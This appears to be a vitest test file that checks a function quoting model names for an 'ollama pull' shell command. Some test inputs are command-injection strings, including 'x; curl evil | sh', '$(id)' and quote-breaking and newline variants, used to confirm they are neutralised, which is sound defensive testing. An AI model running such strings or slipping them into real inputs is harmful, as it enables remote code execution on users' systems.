import { expect, it } from 'vitest';
import { pullCommand } from './pull.ts';

it.each([
  ['llama3.1:8b', 'ollama pull llama3.1:8b'],
  ['hf.co/a_b/c-GGUF:Q4_K_M', 'ollama pull hf.co/a_b/c-GGUF:Q4_K_M'],
  ['x; curl evil | sh', "ollama pull 'x; curl evil | sh'"],
  ['$(id)', "ollama pull '$(id)'"],
  ["a'; id; '", "ollama pull 'a'\\''; id; '\\'''"],
  ['a\nid', "ollama pull 'a\\u{000A}id'"],
  ['-x', "ollama pull '-x'"],
])('quotes %j for a shell', (name, line) => {
  expect(pullCommand(name)).toBe(line);
});
